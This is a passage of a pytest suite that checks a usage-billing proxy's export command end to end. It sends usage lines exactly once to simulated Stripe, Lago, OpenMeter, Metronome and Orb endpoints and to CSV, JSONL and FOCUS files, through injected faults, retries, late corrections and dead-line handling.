"""`tollgate export` end to end: rated lines from traffic through the proxy (three customers × two models) to the
billing simulators of `billing_sim.py` (Stripe invoice items and meter events, Lago, OpenMeter, Metronome, Orb) and
to CSV, JSON Lines and FOCUS files.

What every test checks is the issue's promise: every staged line arrives exactly once (by its idempotency key, with
the receiver failing a share of requests before and after processing, rate limiting with Retry-After, dropping the
connection after processing, and the exporter killed mid-run), the amounts sum exactly to the margin report's
revenue for the period, a late event becomes exactly one correction line, a customer without an id in the billing
system is held with a reason naming the fix, and `export status` / `retry --dead` / exit codes say what is left.

The period exported is the current month (`--period`, which may be open): the events come through the proxy now.
Tests of closed months (a run without --period, serve's schedule, a late event after the month closed) move the
events to an earlier month in the meter and rebuild the rollups, since the proxy cannot date an event in the past.
The billing simulator runs in this process (one per test), so tests read what each system kept directly; its faults
are drawn from a seeded generator after a fixed sequence that meets each kind of fault at least once.
Two tests are expected failures documenting open bugs (strict: they fail the run once fixed, so the marker goes).
"""

from __future__ import annotations

import csv
import json
import signal
import subprocess
import time
from datetime import datetime, timezone
from decimal import ROUND_HALF_EVEN, Decimal, localcontext
from pathlib import Path
from typing import Any, Callable, Iterable
from urllib.parse import parse_qsl

import pytest

from billing_sim import BillingSimulator
from conftest import CLI_TIMEOUT, MESSAGES, TOLLGATE_BIN, Tollgate, free_port, meter_sql, run_cli, start_tollgate, stop_process, wait_for

pytestmark = pytest.mark.proxy

CUSTOMERS = ("cust-alpha", "cust-beta", "cust-gamma")
MODELS = ("gpt-4o-mini", "gpt-4o")
BILLING_KEY = "sk_test_billing"

# A third of the requests fail: some before processing, some after (answered 500, or the connection dropped), some
# rate limited with Retry-After. The first requests meet each fault in turn, so that a run of a few requests (batch
# APIs send six lines in one) still goes through all of them.
FAULTS = {"fail_before": 0.12, "fail_after": 0.1, "drop_after": 0.06, "rate_limit": 0.05, "retry_after": 1,
          "sequence": ("fail_after", "drop_after", "rate_limit", "fail_before")}

# Amounts with more digits than the currency's minor unit, so that rounding per line shows.
BOOK = """\
name: standard
currency: USD
markup: "1.37"
per_request: "0.123456789"
"""

PRICING = """\
pricing:
  price_books: books
  default_price_book: standard
"""

MINOR_DIGITS = {"USD": 2, "KWD": 3, "JPY": 0}
# What a Stripe meter event counts for a usage line: every token the line carries (reasoning is part of output).
METERED_TOKENS = ("input_tokens", "cache_read_tokens", "cache_write_tokens", "output_tokens")
API_SYSTEMS = ("lago", "openmeter", "metronome", "orb")
FOCUS_COLUMNS = (
    "BilledCost", "EffectiveCost", "ListCost", "BillingCurrency", "ChargePeriodStart", "ChargePeriodEnd",
    "ConsumedQuantity", "ConsumedUnit", "PricingQuantity", "PricingUnit",
)


def sink_yaml(name: str, kind: str, origin: str | None = None, **fields: Any) -> str:
    """One entry under `sinks:` with quick retries (tests must not wait for production backoffs)."""
    settings: dict[str, Any] = {"type": kind}
    if origin is not None:
        settings.update(base_url=origin, api_key=BILLING_KEY, timeout_s=2, max_attempts=30)
    settings.update(initial_backoff_s=0.05, max_backoff_s=0.5)
    settings.update(fields)
    body = "".join(f"    {key}: {json.dumps(value) if isinstance(value, str) else value}\n"
                   for key, value in settings.items())
    return f"  {name}:\n{body}"


def exact_sum(amounts: Iterable[Any]) -> Decimal:
    """A sum of decimal strings, exact."""
    with localcontext() as context:
        context.prec = 80
        return sum((Decimal(str(amount)) for amount in amounts), Decimal(0))


def minor_units(amount: Decimal, digits: int = 2) -> int:
    """An amount in the currency's smallest unit, rounded half to even (how a line's amount due is rounded)."""
    return int((amount * (10**digits)).quantize(Decimal(1), rounding=ROUND_HALF_EVEN))


def iso_seconds(text: str) -> float:
    """Unix seconds of an RFC 3339 / ISO 8601 time."""
    return datetime.fromisoformat(text.replace("Z", "+00:00")).timestamp()


def month_range(period: str) -> tuple[int, int]:
    """A month's [start, end) in Unix seconds (UTC)."""
    year, month = (int(part) for part in period.split("-"))
    start = datetime(year, month, 1, tzinfo=timezone.utc)
    end = datetime(year + month // 12, month % 12 + 1, 1, tzinfo=timezone.utc)
    return int(start.timestamp()), int(end.timestamp())


class World:
    """A proxy with a price book and sinks, after traffic for three customers × two models in the current month."""

    def __init__(self, proxy: Tollgate, directory: Path, extra_config: str, sim_origin: str) -> None:
        self.proxy = proxy
        self.directory = directory
        self.extra_config = extra_config
        self.sim_origin = sim_origin
        self.keys: dict[str, str] = {}
        self.events: list[dict] = []
        self.period = ""

    def cli(self, *args: str, check: bool = True) -> subprocess.CompletedProcess:
        return run_cli(self.proxy.config_path, *args, check=check)

    def call(self, customer: str, model: str) -> None:
        """One chat completion through the proxy."""
        self.proxy.client(self.keys[customer]).chat.completions.create(model=model, messages=MESSAGES)

    def export(self, sink: str, *args: str, check: bool = True) -> subprocess.CompletedProcess:
        """`tollgate export run --sink SINK --period PERIOD ARGS`."""
        return self.cli("export", "run", "--sink", sink, "--period", self.period, *args, check=check)

    def lines(self, sink: str) -> list[dict]:
        """`tollgate export lines --sink SINK --format json`."""
        return json.loads(self.cli("export", "lines", "--sink", sink, "--format", "json").stdout)

    def status(self) -> dict[str, dict]:
        """`tollgate export status --format json`, by sink."""
        rows = json.loads(self.cli("export", "status", "--format", "json").stdout)
        assert isinstance(rows, list), f"export status --format json is not an array: {rows!r}"
        return {row["sink"]: row for row in rows}

    def revenue(self) -> tuple[Decimal | None, dict[str, Decimal]]:
        """The margin report's revenue for the period: total (None when it spans currencies) and by customer."""
        report = json.loads(
            self.cli("report", "margin", "--period", self.period, "--by", "customer", "--format", "json").stdout)
        total = report["totals"]["revenue"]
        by_customer = {row["customer"]: Decimal(row["revenue"]) for row in report["rows"]}
        return None if total is None else Decimal(total), by_customer

    def kill_and_restart(self) -> None:
        """SIGKILL the proxy (no graceful shutdown) and start it again on the same config and meter."""
        self.proxy.proc.kill()
        self.proxy.proc.wait(timeout=CLI_TIMEOUT)
        self.proxy = start_tollgate(self.sim_origin, self.directory, extra_config=self.extra_config)

    def late_call(self, customer: str, model: str) -> dict:
        """One more call through the proxy; returns its event (also added to `events`)."""
        mark = self.proxy.mark()
        self.call(customer, model)
        event = self.proxy.one_new_event(mark)
        self.events.append(event)
        return event

    def move_to_last_month(self, events: list[dict], months_back: int = 1) -> None:
        """Moves events to the last day of the previous month (or of the month `months_back` before this one) as if
        they had been recorded then, or arrived late for it, and rebuilds the rollups; the world's period becomes
        that month. The proxy cannot date an event in the past, so this edits the meter as a late-arriving event
        would have left it."""
        start, _ = month_range(time.strftime("%Y-%m", time.gmtime()))
        for _ in range(months_back - 1):
            start, _ = month_range(time.strftime("%Y-%m", time.gmtime(start - 86400)))
        last_day = start - 86400 + 12 * 3600
        for index, event in enumerate(events):
            meter_sql(self.directory, "UPDATE events SET ts_ms = ? WHERE id = ?", ((last_day + index) * 1000, event["id"]))
        self.cli("report", "rebuild")
        self.period = time.strftime("%Y-%m", time.gmtime(last_day))

    def set_external(self, customer: str, system: str, external_id: str) -> None:
        self.cli("customers", "set", "--customer", customer, "--external", f"{system}={external_id}")

    def check_sums(self, amounts_by_customer: dict[str, list[Any]]) -> None:
        """Exact amounts (decimal strings) by customer sum to the report's revenue, customer by customer."""
        total, by_customer = self.revenue()
        assert total is not None and total > 0
        got = {customer: exact_sum(amounts) for customer, amounts in amounts_by_customer.items()}
        assert got == by_customer
        assert exact_sum(got.values()) == total

    def check_revenue(self, rows: Iterable[dict], amount: Callable[[dict], Any] = lambda row: row["amount"],
                      customer: Callable[[dict], str] = lambda row: row["customer"]) -> None:
        """What a receiver kept (or the outbox's lines), summed by customer, equals the report's revenue."""
        by_customer: dict[str, list[Any]] = {name: [] for name in CUSTOMERS}
        for row in rows:
            by_customer[customer(row)].append(amount(row))
        self.check_sums(by_customer)


@pytest.fixture
def billing() -> Iterable[BillingSimulator]:
    """The billing systems' simulator, in this process, for one test."""
    simulator = BillingSimulator(api_key=BILLING_KEY)
    yield simulator
    simulator.close()


@pytest.fixture
def make_world(sim, tmp_path: Path) -> Iterable[Callable[..., World]]:
    """Builds a World: `make_world(sinks_yaml, external={system: [customers]})`; stops its proxy afterwards."""
    worlds: list[World] = []

    def make(sinks: str, external: dict[str, Iterable[str]] | None = None, calls_per_pair: int = 1,
             books: dict[str, str] | None = None, pricing: str = PRICING) -> World:
        directory = tmp_path / f"world{len(worlds)}"
        (directory / "books").mkdir(parents=True)
        for name, text in {"standard": BOOK, **(books or {})}.items():
            (directory / "books" / f"{name}.yaml").write_text(text)
        extra_config = pricing + "sinks:\n" + sinks
        proxy = start_tollgate(sim.origin, directory, extra_config=extra_config)
        world = World(proxy, directory, extra_config, sim.origin)
        worlds.append(world)
        for customer in CUSTOMERS:
            world.keys[customer] = proxy.create_key(customer)
        for customer in CUSTOMERS:
            for model in MODELS:
                for _ in range(calls_per_pair):
                    world.call(customer, model)
        count = len(CUSTOMERS) * len(MODELS) * calls_per_pair
        world.events = proxy.new_events(set(), count=count)
        assert len(world.events) == count
        periods = {event["timestamp"][:7] for event in world.events}
        if len(periods) != 1:
            pytest.skip(f"the traffic straddles a month boundary ({sorted(periods)}): run again")
        world.period = periods.pop()
        for system, customers in (external or {}).items():
            for customer in customers:
                world.set_external(customer, system, external_id(system, customer))
        return world

    yield make
    for world in worlds:
        stop_process(world.proxy.proc)


def external_id(system: str, customer: str) -> str:
    """The id a customer has in a billing system, in that system's style."""
    prefixes = {"stripe": "cus_", "lago": "sub_", "openmeter": "", "metronome": "mc-", "orb": "orb-"}
    return prefixes.get(system, "") + customer


def invoice_item_keys(billing: BillingSimulator) -> list[str]:
    """The Idempotency-Key of every invoice item Stripe created (one item per processed request)."""
    return [item["idempotency_key"] for item in billing.stripe_invoice_items]


def price_of(events: Iterable[dict]) -> Decimal:
    return exact_sum(event["price"] for event in events)


def check_lines_match_events(world: World, lines: list[dict]) -> None:
    """One version-0 usage line per customer × model, each the sum of its events' prices, each event in one line."""
    originals = [line for line in lines if line["version"] == 0]
    assert len(originals) == len(CUSTOMERS) * len(MODELS), [line["meter"] for line in originals]
    by_id = {event["id"]: event for event in world.events}
    seen: list[str] = []
    for line in originals:
        assert line["kind"] == "usage" and line["period"] == world.period and line["correction"] is False
        assert line["key"].startswith("tg_") and len(line["key"]) == 43
        events = [by_id[event_id] for event_id in line["event_ids"]]
        assert {event["customer"] for event in events} == {line["customer"]}
        # A line is priced by the model served (the provider's snapshot name), as statements rate it.
        assert {event["served_model"] for event in events} == {line["model"]}
        assert Decimal(line["amount"]) == price_of(events)
        digits = MINOR_DIGITS[line["currency"]]
        assert Decimal(line["amount_due"]) == Decimal(minor_units(Decimal(line["amount"]), digits)) / 10**digits
        seen += line["event_ids"]
    assert sorted(seen) == sorted(by_id)
    assert len({line["key"] for line in lines}) == len(lines)


def request_keys(record: dict) -> list[str]:
    """The line keys a request to the billing simulator carried."""
    path, body = record["path"], record["body"]
    if path == "/v1/invoiceitems":
        return [record["headers"].get("idempotency-key", "")]
    if path == "/v1/billing/meter_events":
        return [dict(parse_qsl(body.decode())).get("identifier", "")]
    document = json.loads(body)
    if path == "/api/v1/events/batch":
        return [event["transaction_id"] for event in document["events"]]
    if path == "/api/v1/events":
        return [event["id"] for event in (document if isinstance(document, list) else [document])]
    if path == "/v1/ingest":
        return [event["transaction_id"] for event in document]
    return [event["idempotency_key"] for event in document["events"]]


def check_retry_after(billing: BillingSimulator, seconds: float) -> None:
    """After a 429 with Retry-After, no line of that request was sent again before the wait it asked for."""
    requests = list(billing.requests)
    limited = [index for index, record in enumerate(requests) if record["status"] == 429]
    assert limited, "no request was rate limited"
    for index in limited:
        keys = set(request_keys(requests[index]))
        again = next((record for record in requests[index + 1:] if keys & set(request_keys(record))), None)
        assert again is not None, f"lines {keys} were never sent again after a 429"
        waited = again["time"] - requests[index]["time"]
        assert waited >= seconds - 0.05, f"sent again {waited:.3f}s after a 429 asking for Retry-After: {seconds}"


# --- Stripe ------------------------------------------------------------------------------------------------------


def test_stripe_invoice_items_exactly_once_through_faults_and_a_kill(billing: BillingSimulator, make_world) -> None:
    world = make_world(
        sink_yaml("stripe", "stripe", billing.origin, timeout_s=1), external={"stripe": CUSTOMERS}, calls_per_pair=2)

    # First run: every request is processed at once and answered late; the exporter is killed while the third line's
    # answer is on its way, so the receiver has billed a line that the outbox still holds as unsent.
    billing.configure(slow_after=1.0, delay_s=0.4)
    command = [str(TOLLGATE_BIN), "export", "run", "--sink", "stripe", "--period", world.period,
               "--config", str(world.proxy.config_path)]
    first = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        wait_for(lambda: len(billing.stripe_invoice_items) >= 3 or first.poll() is not None, 15,
                 "three invoice items from the first run")
        assert first.poll() is None, f"the first run ended early: {first.communicate()}"
        first.send_signal(signal.SIGKILL)
    finally:
        if first.poll() is None:
            first.kill()
        first.communicate(timeout=CLI_TIMEOUT)
    staged = world.lines("stripe")
    check_lines_match_events(world, staged)
    status = world.status()["stripe"]
    assert 1 <= status["sent"] < len(billing.stripe_invoice_items) <= len(staged), status

    # Second run, against a receiver failing a third of the requests (before and after processing); one request is
    # processed only after the sender gave up waiting, so its retry finds the key still in flight (409).
    billing.configure(**{**FAULTS, "sequence": (*FAULTS["sequence"], "slow")}, delay_s=3)
    result = world.export("stripe")
    assert result.returncode == 0
    lines = world.lines("stripe")
    assert [line["key"] for line in lines] == [line["key"] for line in staged], "the restart staged new lines"
    assert {line["state"] for line in lines} == {"sent"}
    assert world.status()["stripe"]["sent"] == len(lines)
    assert set(billing.faults_served) >= {"fail_after", "drop_after", "rate_limit", "fail_before", "slow"}
    assert any(record["status"] == 409 for record in billing.requests), "no retry found the key still in flight"
    check_retry_after(billing, FAULTS["retry_after"])

    # Every line arrived once: one invoice item per key, and the replays were answered from the saved response.
    items = billing.stripe_invoice_items
    assert len(items) == len(lines)
    keys = [item["idempotency_key"] for item in items]
    assert sorted(keys) == sorted(line["key"] for line in lines)
    assert sorted(item["metadata"]["tollgate_key"] for item in items) == sorted(keys)
    assert billing.duplicates, "the line killed mid-answer was never resent"
    assert {duplicate.split(":", 1)[1] for duplicate in billing.duplicates} <= set(keys)

    # Amounts: the exact ones sum to the report's revenue; each rounded one is the exact one rounded half to even.
    by_key = {line["key"]: line for line in lines}
    start, end = month_range(world.period)
    for item in items:
        line = by_key[item["idempotency_key"]]
        assert item["customer"] == external_id("stripe", line["customer"])
        assert item["currency"] == "usd"
        assert Decimal(item["metadata"]["amount"]) == Decimal(line["amount"])
        assert int(item["amount"]) == minor_units(Decimal(line["amount"]))
        assert abs(Decimal(item["amount"]) / 100 - Decimal(line["amount"])) <= Decimal("0.005")
        assert start <= int(item["period[start]"]) <= int(item["period[end]"]) <= end
        assert item["metadata"]["period"] == world.period and item["metadata"]["customer"] == line["customer"]
    world.check_revenue([item["metadata"] for item in items])


def test_stripe_meter_events_hold_a_customer_without_an_id(billing: BillingSimulator, make_world) -> None:
    world = make_world(
        sink_yaml("meters", "stripe", billing.origin, mode="meter_events"), external={"stripe": CUSTOMERS[:2]})
    billing.configure(**FAULTS)

    result = world.export("meters")
    assert result.returncode == 0, result.stdout + result.stderr
    lines = world.lines("meters")
    check_lines_match_events(world, lines)
    held = [line for line in lines if line["state"] == "held"]
    assert {line["customer"] for line in held} == {CUSTOMERS[2]} and len(held) == len(MODELS)
    for line in held:
        assert f"tollgate customers set --customer {CUSTOMERS[2]} --external stripe=" in line["last_error"]
    status = world.status()["meters"]
    counts = (status["held"], status["sent"], status["dead"], status["failed"])
    assert counts == (len(MODELS), len(lines) - len(MODELS), 0, 0), status
    assert "customers set" in result.stdout, "the summary does not say how to release the held lines"

    def check_events() -> None:
        sent = [line for line in world.lines("meters") if line["state"] == "sent"]
        events = billing.stripe_meter_events
        assert sorted(events) == sorted(line["key"] for line in sent)
        start, _ = month_range(world.period)
        for line in sent:
            event = events[line["key"]]
            assert event["event_name"] == "tollgate_usage"
            assert event["payload"]["stripe_customer_id"] == external_id("stripe", line["customer"])
            tokens = sum(line[name] for name in METERED_TOKENS)
            assert event["payload"]["value"] == str(tokens) and tokens > 0
            assert int(iso_seconds(line["usage_time"])) == event["timestamp"]
            assert start <= event["timestamp"] <= time.time()

    check_events()
    assert len(billing.stripe_meter_events) == len(lines) - len(MODELS)

    # The fix the reason names releases the held lines on the next run.
    world.set_external(CUSTOMERS[2], "stripe", external_id("stripe", CUSTOMERS[2]))
    assert world.export("meters").returncode == 0
    assert {line["state"] for line in world.lines("meters")} == {"sent"}
    check_events()
    assert len(billing.stripe_meter_events) == len(lines)

    # A late event adds its tokens as one more meter event (a correction that only adds can be one).
    late = world.late_call(CUSTOMERS[0], MODELS[0])
    assert world.export("meters").returncode == 0
    after = world.lines("meters")
    assert len(after) == len(lines) + 1 and after[-1]["version"] == 1
    check_events()
    tokens = sum(late[name] for name in METERED_TOKENS)
    assert billing.stripe_meter_events[after[-1]["key"]]["payload"]["value"] == str(tokens)


def test_late_event_is_exactly_one_correction(billing: BillingSimulator, make_world) -> None:
    world = make_world(sink_yaml("stripe", "stripe", billing.origin), external={"stripe": CUSTOMERS})
    assert world.export("stripe").returncode == 0
    first = world.lines("stripe")
    assert len(billing.stripe_invoice_items) == len(first)

    # One more event for a customer × model already exported, in the same period.
    late = world.late_call(CUSTOMERS[0], MODELS[0])

    second = world.export("stripe")
    assert second.returncode == 0
    lines = world.lines("stripe")
    new = [line for line in lines if line["key"] not in {old["key"] for old in first}]
    assert len(new) == 1, new
    correction = new[0]
    original = next(line for line in first
                    if line["customer"] == CUSTOMERS[0] and line["model"] == late["served_model"])
    assert correction["version"] == 1 and correction["correction"] is True
    assert correction["period"] == world.period and correction["meter"] == original["meter"]
    assert correction["customer"] == CUSTOMERS[0] and correction["model"] == late["served_model"]
    assert Decimal(correction["amount"]) == Decimal(late["price"])
    assert correction["event_ids"] == [late["id"]] and correction["quantity"] == 1
    assert correction["state"] == "sent"
    assert [line for line in lines if line["key"] != correction["key"]] == first, "an exported line changed"

    items = billing.stripe_invoice_items
    assert len(items) == len(first) + 1
    item = items[-1]
    assert item["idempotency_key"] == correction["key"]
    assert Decimal(item["metadata"]["amount"]) == Decimal(late["price"])
    assert int(item["amount"]) == minor_units(Decimal(late["price"]))
    assert item["metadata"]["correction"] == "true" and item["metadata"]["original_period"] == world.period
    assert item["metadata"]["period"] == world.period and item["metadata"]["version"] == "1"
    world.check_revenue(lines)

    # Nothing more to say: a third run stages and sends nothing.
    third = world.export("stripe")
    assert third.returncode == 0
    assert world.lines("stripe") == lines
    assert len(billing.stripe_invoice_items) == len(first) + 1


# --- Lago, OpenMeter, Metronome, Orb -----------------------------------------------------------------------------


def received(billing: BillingSimulator, system: str) -> dict[str, dict]:
    """What a system kept, by idempotency key, each as {customer (its id there), properties, time (Unix seconds),
    name (meter / event type), raw (the event as sent)}."""
    result: dict[str, dict] = {}
    if system == "lago":
        for key, event in billing.lago_events.items():
            result[key] = {"customer": event["external_subscription_id"], "properties": event.get("properties", {}),
                           "time": float(event["timestamp"]), "name": event["code"], "raw": event}
    elif system == "openmeter":
        for (source, key), event in billing.openmeter_events.items():
            assert source == "tollgate"
            result[key] = {"customer": event["subject"], "properties": event["data"],
                           "time": iso_seconds(event["time"]), "name": event["type"], "raw": event}
    elif system == "metronome":
        for key, event in billing.metronome_events.items():
            result[key] = {"customer": event["customer_id"], "properties": event.get("properties", {}),
                           "time": iso_seconds(event["timestamp"]), "name": event["event_type"], "raw": event}
    elif system == "orb":
        for key, event in billing.orb_events.items():
            assert "customer_id" not in event
            result[key] = {"customer": event["external_customer_id"], "properties": event.get("properties", {}),
                           "time": iso_seconds(event["timestamp"]), "name": event["event_name"], "raw": event}
    return result


@pytest.mark.parametrize("system", API_SYSTEMS)
def test_event_apis_get_every_line_once_through_faults(billing: BillingSimulator, make_world, system: str) -> None:
    world = make_world(sink_yaml(system, system, billing.origin), external={system: CUSTOMERS})
    billing.configure(**FAULTS)

    result = world.export(system)
    assert result.returncode == 0, result.stdout + result.stderr
    lines = world.lines(system)
    check_lines_match_events(world, lines)
    assert {line["state"] for line in lines} == {"sent"}
    status = world.status()[system]
    counts = (status["sent"], status["dead"], status["failed"], status["pending"], status["held"])
    assert counts == (len(lines), 0, 0, 0, 0), status
    assert set(billing.faults_served) >= {"fail_after", "drop_after", "rate_limit", "fail_before"}
    check_retry_after(billing, FAULTS["retry_after"])

    got = received(billing, system)
    assert sorted(got) == sorted(line["key"] for line in lines)
    for line in lines:
        event = got[line["key"]]
        properties = event["properties"]
        assert event["customer"] == external_id(system, line["customer"])
        assert event["name"] == "tollgate_usage"
        assert abs(event["time"] - iso_seconds(line["usage_time"])) < 1
        assert properties["customer"] == line["customer"] and properties["period"] == world.period
        assert properties["meter"] == line["meter"] and properties["model"] == line["model"]
        assert str(properties["version"]) == "0" and "correction" not in properties
        assert isinstance(properties["amount"], str), f"money must be a decimal string: {properties['amount']!r}"
        assert Decimal(properties["amount"]) == Decimal(line["amount"])
        assert properties["currency"] == "USD"
        for name in ("input_tokens", "output_tokens"):
            assert int(properties[name]) == line[name]
        if system == "lago":
            assert Decimal(event["raw"]["precise_total_amount_cents"]) == Decimal(line["amount"]) * 100
    world.check_revenue([event["properties"] for event in got.values()])


# --- files -------------------------------------------------------------------------------------------------------


def read_rows(path: Path, kind: str) -> list[dict]:
    if kind == "jsonl":
        return [json.loads(line) for line in path.read_text().splitlines() if line.strip()]
    with path.open(newline="") as handle:
        return list(csv.DictReader(handle))


@pytest.mark.parametrize("kind", ["csv", "jsonl", "focus"])
def test_files_sum_to_the_report_and_never_repeat_a_row(make_world, tmp_path: Path, kind: str) -> None:
    extension = {"csv": "csv", "jsonl": "jsonl", "focus": "csv"}[kind]
    template = tmp_path / "out" / f"lines-{{period}}.{extension}"
    world = make_world(sink_yaml("file", kind, path=str(template)))
    assert world.export("file").returncode == 0
    path = Path(str(template).replace("{period}", world.period))
    assert path.exists(), f"no {path}; folder has {sorted(p.name for p in path.parent.glob('*'))}"
    rows = read_rows(path, kind)
    lines = world.lines("file")
    check_lines_match_events(world, lines)
    assert len(rows) == len(lines)
    assert {line["state"] for line in lines} == {"sent"}

    column = "BilledCost" if kind == "focus" else "amount"
    customer_column = "SubAccountId" if kind == "focus" else "customer"
    key_column = "x_IdempotencyKey" if kind == "focus" else "key"
    assert sorted(row[key_column] for row in rows) == sorted(line["key"] for line in lines)
    for row in rows:
        text = str(row[column])
        if kind == "jsonl":
            assert isinstance(row[column], str), f"money must be a string: {row[column]!r}"
        assert "e" not in text.lower() and "," not in text, f"not a plain decimal: {text!r}"
    world.check_revenue(rows, amount=lambda row: row[column], customer=lambda row: row[customer_column])

    if kind == "focus":
        header = list(rows[0])
        missing = [name for name in FOCUS_COLUMNS if name not in header]
        assert not missing, f"FOCUS columns missing: {missing} (header: {header})"
        assert any(name.startswith("x_") for name in header)
        for name in header:
            assert name.startswith("x_") or name[0].isupper(), f"custom FOCUS columns start with x_: {name}"
        start, end = month_range(world.period)
        for row in rows:
            assert row["BillingCurrency"] == "USD"
            for name in ("ChargePeriodStart", "ChargePeriodEnd"):
                assert len(row[name]) == 20 and row[name].endswith("Z"), row[name]
            assert iso_seconds(row["ChargePeriodStart"]) == start and iso_seconds(row["ChargePeriodEnd"]) == end
            for name in ("EffectiveCost", "ListCost"):
                Decimal(row[name])

    # A second run (and a third after a late event) never repeats a row; the late event adds one row.
    before = path.read_text()
    assert world.export("file").returncode == 0
    assert path.read_text() == before
    # Nor does sending every line again (a crash after the file was written, before the outbox knew).
    meter_sql(world.directory, "UPDATE export_lines SET state = 'pending', sent_ms = NULL WHERE sink = 'file'")
    assert world.status()["file"]["pending"] == len(lines)
    assert world.export("file").returncode == 0
    assert path.read_text() == before
    assert world.status()["file"]["sent"] == len(lines)
    late = world.late_call(CUSTOMERS[1], MODELS[1])
    assert world.export("file").returncode == 0
    assert world.export("file").returncode == 0
    after = read_rows(path, kind)
    assert after[: len(rows)] == rows and len(after) == len(rows) + 1
    assert Decimal(after[-1][column]) == Decimal(late["price"])
    if kind == "focus":
        assert after[-1]["ChargeClass"] == "Correction"
        assert iso_seconds(after[-1]["ChargePeriodStart"]) == month_range(world.period)[0]
    else:
        correction = after[-1]
        assert str(correction["correction"]).lower() == "true" and correction["original_period"] == world.period


def test_file_sink_never_writes_into_a_file_it_did_not_write(make_world, tmp_path: Path) -> None:
    target = tmp_path / "out" / "lines.csv"
    target.parent.mkdir()
    target.write_text("name,notes\nsomething,else\n")
    world = make_world(sink_yaml("file", "csv", path=str(target)))
    result = world.export("file", check=False)
    assert result.returncode != 0
    assert target.read_text() == "name,notes\nsomething,else\n"
    lines = world.lines("file")
    assert {line["state"] for line in lines} == {"dead"}
    assert "was not written by this sink" in lines[0]["last_error"], lines[0]["last_error"]
    target.unlink()
    world.cli("export", "retry", "--dead")
    assert world.export("file").returncode == 0
    assert len(read_rows(target, "csv")) == len(lines)


# --- status, dead lines, exit codes ------------------------------------------------------------------------------


STATUS_FIELDS = {"sink", "type", "pending", "sent", "failed", "dead", "held", "last_error", "last_sent"}


def test_status_retry_dead_and_exit_codes(billing: BillingSimulator, make_world) -> None:
    world = make_world(
        sink_yaml("stripe", "stripe", billing.origin, api_key="sk_wrong")
        + sink_yaml("orb", "orb", billing.origin, max_attempts=2),
        external={"stripe": CUSTOMERS, "orb": CUSTOMERS})

    status = world.status()
    assert set(status) == {"stripe", "orb"}
    for name, row in status.items():
        assert set(row) >= STATUS_FIELDS, sorted(row)
        assert row["type"] == name
        assert (row["pending"], row["sent"], row["failed"], row["dead"], row["held"]) == (0, 0, 0, 0, 0)
        assert row["last_error"] is None

    # A key the receiver refuses (401): every line is dead at once, with the reason; the run says so with its exit code.
    refused = world.export("stripe", check=False)
    assert refused.returncode != 0
    lines = world.lines("stripe")
    assert {line["state"] for line in lines} == {"dead"}
    assert all("401" in line["last_error"] for line in lines), lines[0]["last_error"]
    row = world.status()["stripe"]
    assert (row["dead"], row["sent"], row["pending"]) == (len(lines), 0, 0)
    assert "401" in row["last_error"]
    assert billing.stripe_invoice_items == []

    # Dead lines stay dead on later runs (non-zero exit) until retried.
    world.proxy.config_path.write_text(world.proxy.config_path.read_text().replace("sk_wrong", BILLING_KEY))
    still = world.export("stripe", check=False)
    assert still.returncode != 0 and world.status()["stripe"]["dead"] == len(lines)
    assert billing.stripe_invoice_items == []

    retried = world.cli("export", "retry", "--dead", "--sink", "stripe")
    assert str(len(lines)) in retried.stdout
    row = world.status()["stripe"]
    assert (row["dead"], row["pending"]) == (0, len(lines))
    assert world.export("stripe").returncode == 0
    assert world.status()["stripe"]["sent"] == len(lines)
    assert sorted(invoice_item_keys(billing)) == sorted(line["key"] for line in lines)

    # The other sink was never touched.
    assert world.status()["orb"]["pending"] == 0 and world.status()["orb"]["sent"] == 0

    # Out of attempts: failed lines go dead after max_attempts.
    billing.configure(fail_before=1.0)
    exhausted = world.export("orb", check=False)
    assert exhausted.returncode != 0
    row = world.status()["orb"]
    assert (row["dead"], row["sent"]) == (len(lines), 0) and "500" in row["last_error"]
    assert all(line["attempts"] == 2 for line in world.lines("orb"))
    billing.configure()
    world.cli("export", "retry", "--dead")
    assert world.export("orb").returncode == 0
    assert sorted(billing.orb_events) == sorted(line["key"] for line in world.lines("orb"))


def test_failed_lines_without_waiting_exit_non_zero(billing: BillingSimulator, make_world) -> None:
    down = f"http://127.0.0.1:{free_port()}"  # nothing listens there
    world = make_world(sink_yaml("orb", "orb", billing.origin) + sink_yaml("down", "orb", down, max_attempts=3, timeout_s=0.5),
                       external={"orb": CUSTOMERS})
    billing.configure(fail_before=1.0)
    result = world.export("orb", "--no-wait", check=False)
    assert result.returncode != 0
    row = world.status()["orb"]
    assert row["failed"] == len(CUSTOMERS) * len(MODELS) and row["sent"] == 0 and "500" in row["last_error"]
    billing.configure()
    assert world.export("orb").returncode == 0
    row = world.status()["orb"]
    assert (row["sent"], row["failed"], row["last_error"]) == (len(CUSTOMERS) * len(MODELS), 0, None)

    # A receiver that cannot be reached: retried, then dead with the reason.
    unreachable = world.export("down", check=False)
    assert unreachable.returncode != 0
    lines = world.lines("down")
    assert {(line["state"], line["attempts"]) for line in lines} == {("dead", 3)}
    assert "could not be reached" in lines[0]["last_error"], lines[0]["last_error"]


def test_unknown_sink_and_bad_arguments_are_clear_errors(billing: BillingSimulator, make_world) -> None:
    world = make_world(sink_yaml("orb", "orb", billing.origin))
    for args, needle in (
        (("export", "run", "--sink", "nope"), "nope"),
        (("export", "run", "--sink", "orb", "--period", "2026-13"), "--period"),
        (("export", "retry"), "--dead"),
        (("export", "lines", "--sink", "orb", "--state", "lost"), "--state"),
    ):
        result = world.cli(*args, check=False)
        assert result.returncode != 0, f"{args} succeeded: {result.stdout}"
        assert needle in result.stderr, f"{args}: {result.stderr!r}"
        for crash in ("Fatal error", "Stack dump", "Current stack trace"):
            assert crash not in result.stderr
    unknown = world.cli("export", "run", "--sink", "nope", check=False)
    assert "orb" in unknown.stderr, "the error does not list the configured sinks"

    # An API sink whose key comes from an unset variable cannot run, and says which variable.
    config = world.proxy.config_path
    config.write_text(config.read_text().replace(f'api_key: "{BILLING_KEY}"', 'api_key_env: "TOLLGATE_TEST_UNSET_KEY"'))
    unset = world.cli("export", "run", "--sink", "orb", check=False)
    assert unset.returncode != 0 and "TOLLGATE_TEST_UNSET_KEY" in unset.stderr, unset.stderr
    assert billing.requests == []


# --- closed months, late events, continuous export ---------------------------------------------------------------


def test_closed_month_default_run_and_a_late_event(billing: BillingSimulator, make_world) -> None:
    world = make_world(sink_yaml("orb", "orb", billing.origin), external={"orb": CUSTOMERS})
    current = world.period
    world.move_to_last_month(world.events)
    assert world.period < current
    # An event of the current month: the month is open, so a run without --period leaves it alone.
    mark = {event["id"] for event in world.events}
